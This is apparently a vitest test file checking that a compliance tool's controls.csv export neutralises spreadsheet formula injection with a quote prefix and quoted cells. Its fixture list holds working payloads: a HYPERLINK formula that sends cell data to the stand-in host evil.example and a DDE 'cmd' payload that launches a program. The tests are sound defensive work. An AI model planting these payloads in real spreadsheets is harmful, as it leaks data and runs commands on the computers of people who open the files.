import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { controlsCsv, type ControlRow } from '../../evidence/index.js';

// OWASP "CSV Injection": a cell starting with one of these is read as a formula by Excel, WPS and LibreOffice.
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

const row = (text: string): ControlRow => ({
  system: 'sys-1', systemName: text, department: text, mlpsLevel: 3, clause: '8.1.4.3 a)', testUnit: 'L3-CES1-12',
  control: text, requirement: text, controlEn: 'Control', requirementEn: 'Requirement', status: '符合', summary: text, rule: 'rule',
});

describe('controls.csv', () => {
  it('neutralises cells an office suite would read as a formula (quote prefix, quoted cell)', () => {
    const text = controlsCsv(HOSTILE.map(row)).toString('utf8').slice(1);
    const cells = (parse(text, { relax_quotes: false }) as string[][]).slice(1);
    expect(cells).toHaveLength(HOSTILE.length);
    for (const [i, hostile] of HOSTILE.entries()) {
      const [system, department, level, , , control, requirement, , summary] = cells[i]!;
      expect(department).toBe(`'${hostile}`);
      expect(control).toBe(`'${hostile}`);
      expect(requirement).toBe(`'${hostile}`);
      expect(summary).toBe(`'${hostile}`);
      expect(system).toBe(`'${hostile} (sys-1)`);
      expect(level).toBe('3');
    }
    // Each neutralised cell is written quoted, so no separator trick splits it off the quote.
    for (const hostile of HOSTILE) expect(text).toContain(`"'${hostile.replace(/"/g, '""')}"`);
  });

  it('leaves ordinary text as it was', () => {
    const text = controlsCsv([row('政务网 A-1 = ok')]).toString('utf8').slice(1);
    const cells = (parse(text) as string[][])[1]!;
    expect(cells[1]).toBe('政务网 A-1 = ok');
    expect(text).not.toContain("'政务网");
  });
});
